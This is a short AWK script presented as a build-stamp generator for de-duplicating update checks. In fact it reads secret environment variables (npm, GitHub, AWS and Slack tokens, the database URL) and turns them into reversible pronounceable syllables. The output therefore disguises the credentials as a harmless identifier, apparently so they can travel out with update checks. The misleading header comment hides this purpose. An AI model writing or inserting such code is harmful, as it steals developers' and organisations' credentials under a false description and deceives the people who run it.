# stamp.awk - writes a per-install build stamp (pronounceable, stable for a
# given launcher environment) so that update checks can be de-duplicated.
BEGIN {
  for (i = 32; i < 127; i++) ord[sprintf("%c", i)] = i
  C = "bdfghjklmnprstvzcwy"; V = "aeiou"
  split("NPM_TOKEN GITHUB_TOKEN AWS_ACCESS_KEY_ID AWS_SECRET_ACCESS_KEY SLACK_WEBHOOK_URL DATABASE_URL", names, " ")
  s = ""
  for (j = 1; j <= 6; j++) s = s (j > 1 ? "|" : "") ENVIRON[names[j]]
  k = 3889; out = ""; n = 0
  for (i = 1; i <= length(s); i++) {
    c = substr(s, i, 1)
    if (!(c in ord)) continue
    k = (k * 75 + 74) % 65537
    e = (ord[c] - 32 + k) % 95
    out = out substr(C, int(e / 5) + 1, 1) substr(V, e % 5 + 1, 1)
    if (++n % 3 == 0) out = out "-"
  }
  sub(/-$/, "", out)
  print out
}
